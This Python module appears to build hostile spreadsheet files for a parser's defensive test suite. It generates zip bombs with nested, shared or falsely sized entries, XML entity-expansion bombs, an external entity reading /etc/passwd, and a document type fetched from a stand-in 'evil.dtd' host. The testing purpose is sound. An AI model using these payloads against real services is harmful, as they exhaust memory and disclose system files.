"""Small files that would fill the memory: spaces, texts, entities, parts without end."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

from tests.workbooks.hostile.xlsx import HEAD, PARTS, SHEET, SST, book, random_bytes, sheet, texts


def bomb_of_spaces(path: Path) -> None:
    head, tail = sheet().encode().split(b"</sheetData>")
    book(path, {SHEET: [head, *[b" " * 1_000_000] * 600, b"</sheetData>", tail]})


def bomb_of_spaces_below_the_ratio(path: Path) -> None:
    """Packed worse on purpose: only the limit of all parts together finds it."""
    noise = random_bytes(24_000)
    book(path, {f"xl/media/noise{n}.bin": [noise + b"\0" * 1_200_000] * 20 for n in range(25)})


def bomb_of_one_text(path: Path) -> None:
    noise = random_bytes(6_000).hex().encode()
    book(path, {SST: [texts().encode().removesuffix(b"</sst>"), b"<si><t>", *[noise * 60] * 140, b"</t></si></sst>"]})


def bomb_of_a_text_in_its_cell(path: Path) -> None:
    noise = random_bytes(6_000).hex().encode()
    head, tail = sheet().encode().split(b"</sheetData>")
    cell = b'<row r="4"><c r="A4" t="inlineStr"><is><t>'
    book(path, {SHEET: [head, cell, *[noise * 60] * 60, b"</t></is></c></row></sheetData>", tail]})


def bomb_of_texts(path: Path) -> None:
    pieces = (
        b"".join(b"<si><t>%x</t></si>" % (n * 2_654_435_761 % 4_294_967_296) for n in range(start, start + 100_000))
        for start in range(0, 2_000_000, 100_000)
    )
    book(path, {SST: [texts().encode().removesuffix(b"</sst>"), *pieces, b"</sst>"]})


def bomb_of_the_same_texts(path: Path) -> None:
    many = b"<si><t>a</t></si>" * 60_000
    book(path, {SST: [texts().encode().removesuffix(b"</sst>"), *[many] * 60, b"</sst>"]})


def zip_in_a_zip(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("zeros", b"\0" * 20_000_000)
    inside = inner.getvalue()
    for _ in range(3):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as package:
            for number in range(10):
                package.writestr(f"{number}.zip", inside)
        inside = outer.getvalue()
    path.write_bytes(inside)


def workbook_in_a_zip(path: Path) -> None:
    inner = path.with_suffix(".inner")
    book(inner)
    with zipfile.ZipFile(path, "w") as package:
        package.write(inner, "report/volumes.xlsx")


def zip_bomb_as_a_part(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("zeros", b"\0" * 100_000_000)
    book(path, {"xl/embeddings/bomb.zip": inner.getvalue()})


def entities(levels: int) -> str:
    made = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{made}]>'


def bomb_of_entities(path: Path) -> None:
    book(path, {SST: entities(12) + texts(["&e11;"]).removeprefix(HEAD)})


def bomb_of_entities_behind_a_comment(path: Path) -> None:
    book(path, {SST: HEAD + "<!--" + " x" * 900_000 + "-->" + entities(12)[21:] + texts(["&e11;"]).removeprefix(HEAD)})


def bomb_of_entities_in_utf_16(path: Path) -> None:
    text = entities(12).replace("?>", ' encoding="UTF-16"?>', 1) + texts(["&e11;"]).removeprefix(HEAD)
    book(path, {SST: text.encode("utf-16")})


def external_entity(path: Path) -> None:
    head = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    book(path, {SST: head + texts(["&e;"]).removeprefix(HEAD)})


def external_document_type(path: Path) -> None:
    head = '<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "http://192.0.2.1/evil.dtd">'
    book(path, {SHEET: head + sheet().removeprefix(HEAD)})


def parts_without_end(path: Path) -> None:
    names = [*PARTS, *(f"{number:x}" for number in range(200_000))]
    _shared(path, names, b"", 0)


def parts_that_share_one_body(path: Path) -> None:
    """Every entry of the list points to the same packed bytes, so that a small file unpacks to a large one."""
    noise = random_bytes(580 * 600)
    content = b"".join(noise[n * 600 : n * 600 + 600] + b"\0" * 20_000 for n in range(580))
    _shared(path, [*PARTS, *map(str, range(900))], content, 1)


def _shared(path: Path, names: Iterable[str], content: bytes, level: int) -> None:
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    body, crc, size = packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)
    fields = (20, 0, 8, 0, 33, crc, len(body), size)
    found = [name.encode() for name in names]
    local = b"".join(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, len(n), 0) + n + body for n in found[:1])
    entries = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, len(name), 0, 0, 0, 0, 0, 0) + name for name in found
    )
    count = min(len(found), 0xFFFF)
    path.write_bytes(
        local + entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entries), len(local), 0)
    )


def size_that_lies(path: Path) -> None:
    """The list says 100 bytes and their checksum; what is packed has thirty million."""
    noise = random_bytes(600_000)
    content = b"".join(noise[n * 20_000 : n * 20_000 + 20_000] + b"\0" * 980_000 for n in range(30))
    book(path, {"xl/media/x.bin": content})
    data = bytearray(path.read_bytes())
    _claim(data, len(content), zlib.crc32(content), 100, zlib.crc32(content[:100]))
    path.write_bytes(data)


def size_that_lies_alone(path: Path) -> None:
    """The list says 100 bytes, with the checksum of all ten thousand."""
    content = random_bytes(10_000)
    book(path, {"xl/media/x.bin": content})
    data = bytearray(path.read_bytes())
    _claim(data, len(content), 0xFFFFFFFF, 100, 0xFFFFFFFF)
    path.write_bytes(data)


def size_of_four_gigabytes(path: Path) -> None:
    """The list says 4 GB of the sheet, which has some hundred bytes."""
    book(path)
    data = bytearray(path.read_bytes())
    content = PARTS[SHEET].encode()
    _claim(data, len(content), 0xFFFFFFFF, 0xFFFFFFF0, 0xFFFFFFFF)
    path.write_bytes(data)


def _claim(data: bytearray, size: int, crc: int, claimed: int, claimed_crc: int) -> None:
    for real, false in ((size, claimed), (crc, claimed_crc)):
        at = 0
        while (at := data.find(struct.pack("<I", real), at)) >= 0:
            data[at : at + 4] = struct.pack("<I", false)
